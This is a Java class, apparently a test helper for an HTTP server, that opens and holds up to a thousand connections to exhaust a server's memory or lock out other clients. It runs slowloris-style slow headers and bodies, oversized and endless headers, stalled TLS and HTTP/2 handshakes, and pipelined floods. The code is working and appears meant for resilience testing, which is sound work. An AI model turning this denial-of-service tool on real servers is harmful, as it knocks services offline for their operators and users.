package dev.siphon.csi.server;

import java.io.IOException;
import java.net.SocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayDeque;
import java.util.Deque;
import java.util.Iterator;

/// Opens connections that exhaust a server's memory or keep other clients out. It holds the latest thousand, and
/// continues the attack on each until the server closes it.
public final class HostilePeer implements AutoCloseable {
    private static final int HELD = 1_000;

    /// Connections opened between two rounds over the held ones.
    private static final int ROUND = 50;

    private final SocketAddress server;
    private final Deque<Held> held = new ArrayDeque<>();

    public HostilePeer(SocketAddress server) {
        this.server = server;
    }

    /// What a connection sends, at first and then repeatedly.
    private enum Attack {
        SILENT("", ""),
        SLOW_HEAD("GET /healthz HTTP/1.1\r\nX: ", "x"),
        SLOW_BODY("POST /healthz HTTP/1.1\r\nContent-Length: 15000\r\n\r\n", "x"),
        SLOW_CHUNKS("POST /healthz HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n", "1\r\nx\r\n"),
        LARGE_HEAD("GET /healthz HTTP/1.1\r\nX: " + "x".repeat(330_000), ""),
        ENDLESS_HEADERS("GET /healthz HTTP/1.1\r\n", "a:\r\n".repeat(1_000)),
        STOPPED_TLS("\u0016\u0003\u0001\u0002\u0000\u0001", ""),
        STOPPED_HTTP2("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", ""),
        PIPELINED("GET /metrics HTTP/1.1\r\n\r\n".repeat(100), "GET /metrics HTTP/1.1\r\n\r\n"),
        UNREAD("GET /metrics HTTP/1.1\r\n\r\n", "");

        private final String first;
        private final String more;

        Attack(String first, String more) {
            this.first = first;
            this.more = more;
        }
    }

    private record Held(SocketChannel channel, Attack attack) {}

    /// Opens `connections` connections, one after another, and rotates through the attacks.
    public void open(int connections) throws IOException {
        for (int i = 0; i < connections; i++) {
            Attack attack = Attack.values()[i % Attack.values().length];
            SocketChannel channel = SocketChannel.open(server);
            channel.configureBlocking(false);
            if (held.size() == HELD) {
                held.removeFirst().channel().close();
            }
            Held one = new Held(channel, attack);
            if (goesOn(one, attack.first)) {
                held.addLast(one);
            }
            if (i % ROUND == 0) {
                goOn();
            }
        }
    }

    private void goOn() throws IOException {
        for (Iterator<Held> each = held.iterator(); each.hasNext(); ) {
            Held one = each.next();
            if (!goesOn(one, one.attack.more)) {
                each.remove();
            }
        }
    }

    /// Sends as much as the socket accepts at once.
    private static boolean goesOn(Held one, String text) throws IOException {
        try {
            one.channel.write(ByteBuffer.wrap(text.getBytes(StandardCharsets.ISO_8859_1)));
            return true;
        } catch (IOException cutOff) {
            one.channel.close();
            return false;
        }
    }

    @Override
    public void close() throws IOException {
        for (Held each : held) {
            each.channel.close();
        }
    }
}
